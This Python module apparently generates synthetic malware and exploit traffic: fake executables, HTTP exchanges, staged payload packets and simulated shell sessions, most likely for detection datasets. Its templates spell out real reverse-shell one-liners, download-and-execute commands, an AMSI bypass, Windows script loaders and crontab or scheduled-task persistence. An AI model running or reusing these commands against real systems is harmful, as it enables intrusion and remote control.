"""What drawn malware and exploits are made of: requests and answers, programs and scripts that do nothing, shells that are talked to. Contents come from the draw."""
import base64
import gzip
import io
import struct
import zipfile
import zlib

LETTERS = "abcdefghijklmnopqrstuvwxyz"
CURL, WGET, BUSYBOX = "curl/7.68.0", "Wget/1.20.3 (linux-gnu)", "Wget"
BROWSERS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
            "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Win64; x64; Trident/7.0; .NET4.0C; .NET4.0E)", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0")


def word(s, low=4, high=9, of=LETTERS):
    return "".join(s.r.choice(of) for _ in range(s.r.randint(low, high)))


def digits(s, n, of="0123456789abcdef"):
    return word(s, n, n, of)


def b64(data):
    return base64.b64encode(data.encode("latin-1") if isinstance(data, str) else data).decode()


def code(s, size):
    """Bytes with the redundancy of machine code: instructions of a small set with random operands."""
    out = bytearray()
    while len(out) < size:
        out += s.r.choice((b"\x8b\x45", b"\x89\x45", b"\xe8", b"\xff\x15", b"\x55\x8b\xec", b"\x48\x8b", b"\x0f\x84", b"\x83\xc4", b"\0\0\0\0", b"\xcc\xcc")) + s.r.randbytes(s.r.randint(1, 4))
    return bytes(out[:size])


def pe(s, size=None, dll=False):
    size = size or s.between(8_000, 160_000)
    head = bytearray(b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0\x40" + b"\0" * 35 + struct.pack("<I", 0x80) + b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd!\xb8\1L\xcd!This program cannot be run in DOS mode.\r\r\n$\0\0\0\0\0\0\0")
    head += b"PE\0\0" + struct.pack("<HHIIIHH", s.r.choice((0x14C, 0x8664)), 4, s.r.getrandbits(32), 0, 0, 0xE0, 0x2102 if dll else 0x102) + struct.pack("<H", 0x10B) + s.r.randbytes(60) + b"\0" * 160
    for name in (b".text", b".rdata", b".data", b".rsrc"):
        head += name.ljust(8, b"\0") + s.r.randbytes(16) + b"\0" * 16
    return bytes(head.ljust(0x400, b"\0")) + code(s, size) + b"\0KERNEL32.dll\0LoadLibraryA\0GetProcAddress\0VirtualAlloc\0"


def elf(s, size=None):
    machine, wide = s.r.choice(((3, 1), (62, 2), (40, 1), (8, 1), (183, 2)))
    head = b"\x7fELF" + bytes((wide, 1, 1, 0)) + b"\0" * 8 + struct.pack("<HHI", 2, machine, 1) + struct.pack("<II", 0x8054, 0x34) + b"\0" * 28
    return head.ljust(120, b"\0") + code(s, size or s.between(4_000, 90_000)) + b"\0/dev/watchdog\0/proc/net/tcp\0GET /%s HTTP/1.0\0"


def zipped(name, data):
    box = io.BytesIO()
    with zipfile.ZipFile(box, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo(name, (2024, 5, 6, 7, 8, 8)), data)
    return box.getvalue()


def fetch_words(s, url):
    """Shell words that fetch and start a script or program."""
    f = word(s, 1, 5)
    return s.one(f"wget -qO- {url}|sh", f"curl -s {url}|bash", f"cd /tmp; wget {url} -O {f}; chmod 777 {f}; ./{f} {word(s)}", f"curl -fsSL {url} -o /tmp/.{f}; chmod +x /tmp/.{f}; /tmp/.{f} &", f"cd /tmp || cd /var/run || cd /mnt; rm -rf {f}; busybox wget {url}; sh {f}",
                 f"(curl -s {url}||wget -q -O- {url})|bash -sh", f"/bin/busybox tftp -g -l {f} -r {f} {url.split('/')[2].split(':')[0]}; /bin/busybox chmod 777 {f}; ./{f}")


def shell_words(s, a, port):
    """Shell words that call back."""
    return s.one(f"bash -i >& /dev/tcp/{a}/{port} 0>&1", f"bash -c 'bash -i >& /dev/tcp/{a}/{port} 0>&1'", f"nc -e /bin/sh {a} {port}", f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {a} {port} >/tmp/f",
                 f"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{a}\",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
                 f"perl -e 'use Socket;$i=\"{a}\";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");}};'",
                 f"php -r '$s=fsockopen(\"{a}\",{port});exec(\"/bin/sh -i <&3 >&3 2>&3\");'", "echo " + b64(f"bash -i >& /dev/tcp/{a}/{port} 0>&1") + "|base64 -d|bash")


def sh_script(s, base):
    f = word(s)
    arch = s.r.sample(("mips", "mpsl", "arm", "arm5", "arm7", "x86", "x86_64", "ppc", "sh4"), 6)
    return s.one("#!/bin/bash\n" + "".join(f"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget {base}/{f}.{a}; curl -O {base}/{f}.{a}; cat {f}.{a} > {f}; chmod +x *; ./{f} {word(s)}.{a}\n" for a in arch),
                 f"#!/bin/sh\nexport PATH=$PATH:/bin:/usr/bin:/sbin\nulimit -n 65535\nchattr -i /etc/ld.so.preload\nrm -rf /var/log/syslog\npkill -f xmrig\npkill -f kinsing\nLDR='wget -q -O -'\nif [ -s /usr/bin/curl ]; then LDR='curl'; fi\n$LDR {base}/{f} > /tmp/{f}\nchmod +x /tmp/{f}\nnohup /tmp/{f} >/dev/null 2>&1 &\n(crontab -l; echo '* * * * * $LDR {base}/{f}.sh | sh') | crontab -\n",
                 f"#!/bin/sh\nn=\"{' '.join(arch)}\"\nfor a in $n\ndo\n  cp $SHELL {f}; chmod 777 {f}; >{f}\n  wget {base}/bins/{f}.$a -O {f} || curl {base}/bins/{f}.$a -o {f}\n  ./{f} {word(s)}\ndone\n").encode()


def ps_script(s, base):
    v, blob = word(s, 3, 6), b64(s.r.randbytes(s.between(300, 4000)))
    return s.one(f"$c=New-Object System.Net.WebClient;$c.Headers.Add('User-Agent','{word(s)}');$p=\"$env:TEMP\\{v}.exe\";$c.DownloadFile('{base}/{v}.exe',$p);Start-Process $p -WindowStyle Hidden\r\n",
                 f"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true);\r\nIEX (New-Object Net.WebClient).DownloadString('{base}/{v}.ps1')\r\n",
                 f"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"{blob}\"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();\r\n",
                 f"${v} = [System.Convert]::FromBase64String('{blob}');\r\nfor($i=0;$i -lt ${v}.Length;$i++){{${v}[$i]=${v}[$i] -bxor 0x{digits(s, 2)}}}\r\n[System.Reflection.Assembly]::Load(${v}).EntryPoint.Invoke($null,$null)\r\n").encode()


def windows_script(s, base):
    """(body, ending, its honest content type) of a script that Windows runs by itself."""
    v, fetch = word(s), f"{base}/{word(s)}.{s.one('exe', 'png', 'txt', 'ps1')}"
    hidden = b64(f"IEX(New-Object Net.WebClient).DownloadString('{fetch}')".encode("utf-16-le"))
    return s.one((f"Set {v} = CreateObject(\"WScript.Shell\")\r\n{v}.Run \"powershell -nop -w hidden -enc {hidden}\", 0, False\r\n", "vbs", "text/vbscript"),
                 (f"<html><head><HTA:APPLICATION ID=\"{v}\" WINDOWSTATE=\"minimize\"><script language=\"VBScript\">\r\nCreateObject(\"WScript.Shell\").Run \"cmd /c powershell -ep bypass -c iwr {fetch} -OutFile $env:temp\\{v}.exe;start $env:temp\\{v}.exe\",0\r\nself.close\r\n</script></head></html>", "hta", "application/hta"),
                 (f"var {v}=new ActiveXObject('WScript.Shell');var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','{fetch}',false);x.send();var a=new ActiveXObject('ADODB.Stream');a.Open();a.Type=1;a.Write(x.ResponseBody);a.SaveToFile({v}.ExpandEnvironmentStrings('%TEMP%')+'\\\\{v}.exe',2);{v}.Run('%TEMP%\\\\{v}.exe',0);", "js", "application/javascript"),
                 (f"@echo off\r\npowershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile('{fetch}','%TEMP%\\{v}.exe')\"\r\ncertutil -urlcache -split -f {fetch} %TEMP%\\{v}2.exe\r\nstart /b %TEMP%\\{v}.exe\r\nschtasks /create /sc minute /mo 5 /tn {v} /tr %TEMP%\\{v}.exe /f\r\n", "bat", "text/plain"),
                 (f"<?XML version=\"1.0\"?><scriptlet><registration progid=\"{v}\" classid=\"{{F0001111-0000-0000-0000-0000FEEDACDC}}\"><script language=\"JScript\"><![CDATA[ var r = new ActiveXObject(\"WScript.Shell\").Run(\"powershell -enc {hidden}\"); ]]></script></registration></scriptlet>", "sct", "text/plain"))


def request(s, method, path, host, agent=None, body=None, kind=None, more=(), order=0, version="1.1"):
    lines = [f"Host: {host}"] if version == "1.1" or s.r.random() < 0.5 else []
    if agent is not None:
        lines.insert(0 if order else 1, f"User-Agent: {agent}")
    lines += [*more]
    data = body.encode("latin-1") if isinstance(body, str) else body
    if data is not None:
        lines += ([f"Content-Type: {kind}"] if kind else []) + [f"Content-Length: {len(data)}"]
    return f"{method} {path} HTTP/{version}\r\n".encode("latin-1") + "\r\n".join(lines).encode("latin-1") + b"\r\n\r\n" + (data or b"")


def answer(s, body=b"", kind="text/html", status="200 OK", server=None, more=()):
    data = body.encode("latin-1") if isinstance(body, str) else body
    server = server if server is not None else s.one("nginx/1.18.0 (Ubuntu)", "Apache/2.4.41 (Ubuntu)", "SimpleHTTP/0.6 Python/3.8.10", "nginx", "")
    lines = ([f"Server: {server}"] if server else []) + ["Date: Mon, 06 May 2024 07:08:09 GMT", *more] + ([f"Content-Type: {kind}"] if kind else []) + [f"Content-Length: {len(data)}", "Connection: close"]
    return f"HTTP/1.1 {status}\r\n".encode() + "\r\n".join(lines).encode("latin-1") + b"\r\n\r\n" + data


def host_of(address, port):
    shown = f"[{address}]" if ":" in address else address
    return shown if port == 80 else f"{shown}:{port}"


ANSWERS = {"id": "uid=0(root) gid=0(root) groups=0(root)\n", "whoami": "root\n", "uname -a": "Linux web01 5.4.0-150-generic #167-Ubuntu SMP Mon May 15 17:35:05 UTC 2023 x86_64 x86_64 x86_64 GNU/Linux\n", "pwd": "/var/www\n", "hostname": "web01\n",
           "ls -la": "total 24\ndrwxr-xr-x 4 root root 4096 May  6 07:01 .\ndrwxr-xr-x 3 root root 4096 May  6 07:01 ..\n-rw-r--r-- 1 root root  220 May  6 07:01 config.php\n", "cat /etc/passwd": "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nbin:x:2:2:bin:/bin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n",
           "ip a": "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536\n    inet 127.0.0.1/8 scope host lo\n2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500\n    inet 10.20.0.20/24 scope global eth0\n", "ps aux": "USER PID %CPU %MEM COMMAND\nroot 1 0.0 0.1 /sbin/init\nroot 412 0.0 0.2 /usr/sbin/cron\n", "env": "PATH=/usr/bin:/bin\nHOME=/root\nSHELL=/bin/sh\n"}
WINDOWS = {"whoami": "nt authority\\system\r\n", "hostname": "WS-0231\r\n", "ipconfig": "\r\nWindows IP Configuration\r\n\r\nEthernet adapter Ethernet0:\r\n   IPv4 Address. . . . : 10.20.0.20\r\n", "systeminfo": "\r\nHost Name:                 WS-0231\r\nOS Name:                   Microsoft Windows 10 Pro\r\nOS Version:                10.0.19045 N/A Build 19045\r\n",
           "net user": "\r\nUser accounts for \\\\WS-0231\r\n\r\nAdministrator            Guest                    jsmith\r\nThe command completed successfully.\r\n\r\n", "dir": " Volume in drive C has no label.\r\n Directory of C:\\Windows\\system32\r\n05/06/2024  07:08    <DIR>          .\r\n", "tasklist": "\r\nImage Name                     PID Session Name\r\nSystem                           4 Services\r\nlsass.exe                      652 Services\r\n"}


def said_shell(s, talk, master, windows=False):
    """Adds orders and answers to a talk; `master` is who gives orders ("in" or "out"). What the shell shows is drawn."""
    say = talk.client if talk.opener == master else talk.server
    back = talk.server if talk.opener == master else talk.client
    known = WINDOWS if windows else ANSWERS
    kind = s.one("cmd", "cmd", "powershell") if windows else s.one("sh -i", "bash -i", "none", "root", "pty")
    prompt = {"cmd": "C:\\Windows\\system32>", "powershell": "PS C:\\Users\\Public> ", "sh -i": s.one("$ ", "# "), "bash -i": "root@web01:/var/www# ", "none": "", "root": "sh-4.2# ", "pty": "\x1b]0;root@web01: ~\x07\x1b[01;32mroot@web01\x1b[00m:~# "}[kind]
    first = {"cmd": "Microsoft Windows [Version 10.0.19045.4291]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\n", "powershell": "Windows PowerShell running as user SYSTEM on WS-0231\nCopyright (C) Microsoft Corporation. All rights reserved.\n\n", "sh -i": "/bin/sh: 0: can't access tty; job control turned off\n",
             "bash -i": "bash: cannot set terminal process group (1021): Inappropriate ioctl for device\nbash: no job control in this shell\n"}.get(kind, "")
    if first + prompt:
        back(first + prompt)
    orders = s.r.sample(sorted(known), s.r.randint(2, min(6, len(known))))
    for order in orders:
        talk.rest(s.one(0.4, 0.8, 1.5))
        say(order + "\n")
        echo = order + "\r\n" if kind in ("cmd", "pty") else ""
        back(echo + (known[order].replace("\n", "\r\n") if kind == "pty" else known[order]) + prompt)
    return f"{kind} shell, {len(orders)} orders"


def tlv(s, kinds):
    """Packets in Meterpreter's manner: a key of four bytes and what it is XORed with."""
    key = bytes(s.r.randint(1, 255) for _ in range(4))
    plain = struct.pack(">II", s.between(60, 300), kinds) + s.r.randbytes(s.between(40, 280))
    return key + bytes(b ^ key[i % 4] for i, b in enumerate(plain))


def staged(s, talk, master):
    """A stage with its length before it, then a packet dialogue."""
    say = talk.client if talk.opener == master else talk.server
    back = talk.server if talk.opener == master else talk.client
    program = pe(s, s.between(30_000, 150_000), True) if s.r.random() < 0.6 else elf(s, s.between(20_000, 90_000))
    say(struct.pack("<I", len(program)) + program)
    for _ in range(s.r.randint(3, 6)):
        talk.rest(s.one(0.2, 0.5, 1))
        say(tlv(s, 0))
        back(tlv(s, 1))
    return f"stage of {len(program)} bytes, then packets"


def name(*labels):
    return b"".join(bytes((len(x),)) + x.encode() for x in ".".join(labels).split(".")) + b"\0"


def asked(s, of):
    """A question for an address."""
    return s.r.randbytes(2) + b"\1\0\0\1\0\0\0\0\0\0" + name(of) + b"\0\1\0\1"


def packed(data):
    return zlib.compress(data), gzip.compress(data, mtime=0)
